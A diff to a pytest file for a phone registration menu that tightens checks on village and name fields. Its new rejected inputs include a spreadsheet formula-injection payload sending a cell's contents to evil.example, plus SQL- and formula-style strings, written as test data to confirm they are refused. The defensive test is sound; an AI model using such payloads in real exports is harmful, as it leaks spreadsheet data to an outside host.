@@ -16,6 +16,8 @@ from models.reference import is_valid_reference
 from notifications.sms.queues import TRANSACTIONAL_QUEUE
 from tests.menus.conftest import GOOD_ANSWERS, OTHER_PHONE, PHONE, Phone, register
 
+VILLAGE_REASON = "Enter 2 to 60 letters or digits; no signs other than ' - . , ( )"
+
 # The first words of each registration screen, in the order of the menu contract.
 PROMPTS = (
     "Registration. Enter your full name:",
@@ -197,8 +199,14 @@ def test_a_national_id_taken_meanwhile_asks_for_the_id_again_and_keeps_the_rest(
         (2, str(current_year() - 101), f"Enter a year from {current_year() - 100} to {current_year() - 15}."),
         (3, "11", "Invalid choice."),
         (3, "05", "Invalid choice."),
-        (4, "H", "Enter 2 to 60 letters."),
-        (4, "x" * 61, "Enter 2 to 60 letters."),
+        (4, "H", VILLAGE_REASON),
+        (4, "x" * 61, VILLAGE_REASON),
+        (4, '=HYPERLINK("http://evil.example/?"&A2,"Maseru")', VILLAGE_REASON),
+        (4, "+27 Maseru", VILLAGE_REASON),
+        (4, "Maseru@home", VILLAGE_REASON),
+        (4, "Ha Abia; DROP", VILLAGE_REASON),
+        (0, "=Thabo Mokoena", "Enter your name in letters only."),
+        (0, "@Thabo", "Enter your name in letters only."),
         (5, "0x", "Invalid choice."),
         (6, "1989", f"Enter a year from 1990 to {current_year()}."),
         (6, str(current_year() + 1), f"Enter a year from 1990 to {current_year()}."),
@@ -220,6 +228,15 @@ def test_invalid_answers_ask_the_same_question_again_with_a_reason(phone, step, 
     question = asked.removeprefix("CON ")
     assert body == f"CON {reason}\n{question}" or body.startswith(f"CON {reason}\n{question.split(chr(10))[0]}")
     assert phone.response.end is False
+
+
+@pytest.mark.usefixtures("english")
+def test_villages_and_names_may_hold_digits_and_plain_punctuation(phone):
+    phone.dial()
+    phone.send("1")
+    phone.walk("Thabo (Junior) Mokoena", "2", "1985", "5", "Ha Abia (Maseru), No. 2", "1", "2020", "99", "5", "2", "1")
+    summary = confirm_pages(phone)
+    assert "Name: Thabo (Junior) Mokoena\n" in summary and "Village: Ha Abia (Maseru), No. 2\n" in summary
 
 
 @pytest.mark.usefixtures("english")
